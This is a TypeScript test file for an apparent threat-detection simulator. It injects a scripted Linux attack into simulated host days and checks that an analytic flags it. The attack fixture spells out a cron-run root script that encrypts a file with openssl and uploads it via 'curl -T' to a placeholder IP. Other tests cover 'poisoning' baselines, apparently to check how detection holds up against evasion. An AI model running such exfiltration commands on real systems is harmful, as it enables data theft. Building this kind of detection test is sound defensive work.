import { describe, expect, it } from 'vitest';
import { resolveStory } from '../resolve-story.ts';
import { checkStory } from '../story-check.ts';
import type { Story } from '../story.ts';
import { estateHosts } from './estate-host.ts';
import { hostDays } from './host-days.ts';
import { injectAttack, isInjectable } from './inject-attack.ts';
import { POISONINGS, poisonSteps } from './poisoning.ts';

/** As content/stories/linux/lin-cron-job-curl.yaml, shortened. */
const ATTACK: Story = {
  id: 'attack',
  title: 'A script encrypts and curl sends',
  platform: 'linux',
  description: 'For tests.',
  hosts: { box: { name: 'lnx-1', addresses: ['10.40.0.1'], user: 'alice' } },
  start: '2026-01-05T02:00:00Z',
  steps: [
    {
      at: '0s',
      process: {
        as: 'job',
        parent: 'cron',
        image: '/usr/bin/bash',
        arguments: ['bash', '/tmp/job.sh'],
        user: 'root',
      },
    },
    {
      at: '1s',
      process: {
        as: 'openssl',
        parent: 'job',
        image: '/usr/bin/openssl',
        arguments: ['openssl', 'enc', '-aes-256-cbc', '-in', 'a', '-out', 'b'],
      },
    },
    {
      at: '2s',
      process: {
        as: 'curl',
        parent: 'job',
        image: '/usr/bin/curl',
        arguments: ['curl', '-T', 'b', 'https://203.0.113.9/'],
      },
    },
    { at: '2.5s', connect: { process: 'curl', to: '203.0.113.9', port: 443 } },
    { at: '3s', end: { process: 'curl' } },
  ],
  expect: {
    findings: [
      { analytic: 'AN1390', host: 'box', process: 'curl', destination: '203.0.113.9', atLeast: 'high' },
    ],
  },
};

const HOST = estateHosts({ hosts: 40, seed: 1 }).find(({ role }) => role.id === 'lin-server');
if (HOST === undefined) throw new Error('no server');
const DAYS = hostDays(HOST, { from: 2, until: 4 }, 1);
const AT = 3 * 86_400_000;

describe('an attack in the days of a host', () => {
  it('keeps its acts in their distances, on the host, at the moment', () => {
    const story = injectAttack(DAYS, ATTACK, AT);
    expect(checkStory(story)).toEqual([]);
    const { acts } = resolveStory(story);
    const curl = acts.find((act) => act.kind === 'connection' && act.remoteAddress === '203.0.113.9');
    expect(curl?.time).toBe(Date.parse(DAYS.start) + AT + 2_500);
    expect(curl?.machine.name).toBe(HOST.name);
    expect(acts.length).toBe(resolveStory(DAYS).acts.length + ATTACK.steps.length);
  });

  it('expects of the host what the story expects of its own', () => {
    const [expected] = injectAttack(DAYS, ATTACK, AT).expect.findings ?? [];
    expect(expected).toMatchObject({ host: 'host', destination: '203.0.113.9', atLeast: 'high' });
    expect(expected?.process).not.toBe('curl');
  });

  it('is only told of attacks on one host', () => {
    expect(isInjectable(ATTACK)).toBe(true);
    expect(isInjectable({ ...ATTACK, expect: { nothingAbove: 'low' } })).toBe(false);
    const [box] = Object.values(ATTACK.hosts);
    if (box === undefined) throw new Error('no host');
    expect(isInjectable({ ...ATTACK, hosts: { box, other: box } })).toBe(false);
  });

  it.each(POISONINGS)('is prepared by %s without a word of encryption', (kind) => {
    const days = { from: 0, until: 14 };
    const own = poisonSteps({ attack: ATTACK, kind, days, accomplice: 0 });
    const story = { ...hostDays(HOST, days, 1), steps: own };
    expect(checkStory(story)).toEqual([]);
    const connects = own.flatMap(({ connect }) => connect ?? []);
    expect(connects.length).toBeGreaterThan(3);
    expect(new Set(connects.map(({ to }) => to))).toEqual(new Set(['203.0.113.9']));
    const words = own.flatMap(({ process }) => process?.arguments ?? []);
    expect(words.join(' ')).not.toMatch(/aes|enc/);
    const others = poisonSteps({ attack: ATTACK, kind, days, accomplice: 3 });
    expect(others.length > 0).toBe(kind === 'hosts' || kind === 'burst');
  });
});
